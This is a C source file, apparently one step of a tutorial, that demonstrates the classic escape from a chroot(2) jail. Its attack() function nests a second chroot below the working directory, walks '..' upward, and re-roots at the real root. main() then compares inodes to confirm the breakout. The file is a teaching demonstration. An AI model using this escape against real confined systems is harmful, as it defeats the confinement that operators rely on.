/* step3-escape.c - chroot(2), and the way out of it
 *
 *   ./step3-escape DIR      as an ordinary user: unshare -r ./step3-escape DIR
 *
 * New in this step: the root directory is one more attribute of a process,
 * like the working directory, and only ".." at the root respects it.  Who may
 * call chroot can put the root below the working directory; then ".." never
 * meets the root on its way up.  Exits 0 if the attack got out.
 * See chroot(2), path_resolution(7). */
#include <err.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

/* show_root: which directory "/" is, by device and inode number */
static struct stat show_root(const char *when)
{
	struct stat st;

	if (stat("/", &st))
		err(1, "/");
	printf("%-14s / is %u:%u inode %ju\n", when, major(st.st_dev), minor(st.st_dev),
	       (uintmax_t)st.st_ino);
	return st;
}

/* attack: all of it is done from inside, by name, with no help from outside */
static void attack(void)
{
	if (mkdir("below", 0700))
		err(1, "below");
	if (chroot("below"))		/* the working directory stays where it is */
		err(1, "chroot below");
	rmdir("below");			/* a root may even be gone */
	for (int i = 0; i < 1000; i++)	/* at the real root, ".." is "." */
		if (chdir(".."))
			err(1, "..");
	if (chroot("."))
		err(1, "chroot .");
}

int main(int argc, char **argv)
{
	struct stat outside, after;

	if (argc != 2) {
		fprintf(stderr, "usage: step3-escape DIR\n");
		return 2;
	}
	outside = show_root("outside");
	if (chroot(argv[1]) || chdir("/"))
		err(1, "chroot %s", argv[1]);
	show_root("in the chroot");
	attack();
	after = show_root("after attack");
	return outside.st_dev != after.st_dev || outside.st_ino != after.st_ino;
}
